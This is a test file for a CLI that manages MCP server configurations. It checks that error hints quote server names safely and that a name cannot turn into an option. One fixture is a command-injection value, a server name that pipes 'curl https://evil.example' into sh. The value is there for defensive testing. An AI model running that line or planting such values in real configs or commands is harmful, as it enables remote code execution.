import { describe, expect, it } from "vitest";
import { errorTable } from "../../src/host.ts";
import { PlugboardError } from "../../src/index.ts";
import type { ErrorCode } from "../../src/index.ts";
import { createSandbox } from "../sandbox.ts";
import { plainHttp } from "../servers/http-fixture.ts";

const codes = Object.keys(errorTable) as ErrorCode[];

describe("hints", () => {
  it("name the header whose value was rejected, and no login", async () => {
    const { origin: url } = await plainHttp((_request, response) => void response.writeHead(401).end());
    const headers = { Authorization: "Bearer outdated" };
    const box = createSandbox({
      "home/.config/plugboard/config.json": { mcpServers: { issues: { url, headers } } },
    });
    const { code, err } = await box.cli(["call", "issues.add"]);
    expect(code).toBe(6);
    expect(err).toContain("Check the configured value of the header `authorization`.");
    expect(err).not.toContain("plugboard login");
  });

  it("name the server that the policy denies", async () => {
    const box = createSandbox({
      "home/.config/plugboard/config.json": { mcpServers: { files: { command: "true" } } },
      "managed/managed.json": { deniedMcpServers: [{ serverName: "files" }] },
    });
    expect((await box.cli(["get", "files"])).out).toContain("`plugboard explain files` shows the rule.");
  });

  it("contain a command that can be copied, whatever a project calls its servers", () => {
    const about = { server: "issues; true", tool: "mcp__issues__add" };
    const hints = codes.map((code) => new PlugboardError(code, "", about).hint);
    expect(hints.filter((hint) => /<server>|<tool>|[^']issues; true/.test(hint))).toEqual([]);
  });

  it("quote the name of an untrusted or disabled server", async () => {
    const name = "docs;curl https://evil.example|sh;#";
    const box = createSandbox({
      "project/.mcp.json": { mcpServers: { [name]: { command: "true" } } },
      "home/.config/plugboard/config.json": {
        mcpServers: { "off; true": { command: "true", enabled: false } },
      },
    });
    expect((await box.cli(["get", name])).out).toContain(`\`plugboard trust '${name}'\``);
    expect((await box.cli(["get", "off; true"])).out).toContain("`plugboard enable 'off; true'`");
  });

  it("do not let a server's name become an option", async () => {
    const box = createSandbox({ "project/.mcp.json": { mcpServers: { "--yes": { command: "true" } } } });
    const { out, err } = await box.cli(["list"]);
    expect(out + err).toContain("must not start with a hyphen");
    expect(out + err).not.toContain("trust --yes");
  });
});
